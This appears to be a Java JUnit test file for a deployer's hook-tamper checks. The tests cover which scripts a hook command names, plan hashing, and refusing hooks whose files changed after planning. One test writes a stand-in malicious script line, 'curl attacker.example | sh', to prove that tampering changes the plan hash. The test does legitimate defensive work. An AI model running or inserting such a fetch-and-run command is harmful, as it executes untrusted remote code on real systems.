package dev.fairlead.deployer.hook;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fairlead.deployer.Samples;
import dev.fairlead.deployer.manifest.EnvironmentSpec;
import dev.fairlead.deployer.plan.Plan;
import dev.fairlead.deployer.plan.PlannedFile;
import dev.fairlead.deployer.plan.Request;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@DisplayName("What tests and hooks run")
class CalledFilesTest {

  private static final String HOOK = PlannedFile.ofHook("smoke");

  @TempDir private Path temporary;
  private Path folder = Path.of("unset");

  @BeforeEach
  void write() throws IOException {
    folder = Files.createDirectory(temporary.resolve("orders"));
    executable("smoke.sh");
    executable("more.sh");
    Files.writeString(folder.resolve("check.py"), "print('ok')");
    Files.writeString(folder.resolve("data.txt"), "data");
    Files.writeString(temporary.resolve("outside.sh"), "true");
  }

  private void executable(String name) throws IOException {
    Path file = Files.writeString(folder.resolve(name), "#!/bin/sh\n");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
  }

  @Test
  @DisplayName("is the script that the command names, to whatever it is handed, and no data")
  void scripts() throws IOException {
    assertThat(paths("[./smoke.sh, data.txt]")).containsExactly("smoke.sh");
    assertThat(paths("[python3, check.py, data.txt]")).containsExactly("check.py");
    assertThat(paths("[sh, -c, './smoke.sh < data.txt && ./more.sh']"))
        .containsExactly("smoke.sh", "more.sh");
    assertThat(paths("['%s']".formatted(folder.resolve("smoke.sh")))).containsExactly("smoke.sh");
  }

  @Test
  @DisplayName("is not of the plan where it is not of the manifest's folder")
  void elsewhere() throws IOException {
    assertThat(paths("['true']")).isEmpty();
    assertThat(paths("[/bin/sh, ../outside.sh, gone.sh]")).isEmpty();
  }

  @Test
  @DisplayName("decides with which plan it is approved")
  void hash() throws IOException {
    Plan before = plan("[./smoke.sh]");
    assertThat(plan("[./smoke.sh]").hash()).isEqualTo(before.hash());

    Files.writeString(folder.resolve("smoke.sh"), "#!/bin/sh\ncurl attacker.example | sh\n");

    assertThat(plan("[./smoke.sh]").hash()).isNotEqualTo(before.hash());
  }

  @Test
  @DisplayName("is refused when it is another one by then, is gone, or was not there")
  void changed() throws IOException {
    List<String> command = List.of("./smoke.sh", "./late.sh");
    List<PlannedFile> planned = files("[./smoke.sh, ./late.sh]");
    CalledFiles called = new CalledFiles(folder);
    assertThat(called.objection(HOOK, command, planned)).isEmpty();

    executable("late.sh");
    assertThat(called.objection(HOOK, command, planned)).contains(refusal("late.sh"));
    Files.delete(folder.resolve("late.sh"));
    Files.writeString(folder.resolve("smoke.sh"), "#!/bin/sh\nexit 0\n");
    assertThat(called.objection(HOOK, command, planned)).contains(refusal("smoke.sh"));
    Files.delete(folder.resolve("smoke.sh"));
    assertThat(called.objection(HOOK, command, planned)).contains(refusal("smoke.sh"));
    assertThat(called.objection(HOOK, command, null)).as("of an old plan").isEmpty();
  }

  private String refusal(String file) {
    return "hook smoke is not run: %s in %s is not what was planned".formatted(file, folder);
  }

  private List<String> paths(String command) throws IOException {
    return files(command).stream().map(PlannedFile::path).toList();
  }

  private List<PlannedFile> files(String command) throws IOException {
    return Objects.requireNonNull(plan(command).files());
  }

  private Plan plan(String command) throws IOException {
    EnvironmentSpec spec =
        Samples.spec("hooks: [{name: smoke, before: rollout, command: %s}]".formatted(command));
    Request request = Samples.request();
    Plan sample = Samples.plan(spec, 1, true);
    return CalledFiles.bound(
        Plan.of(
            request,
            spec,
            sample.artifact(),
            sample.digest(),
            null,
            sample.previous(),
            List.of(),
            sample.migrations(),
            folder));
  }
}
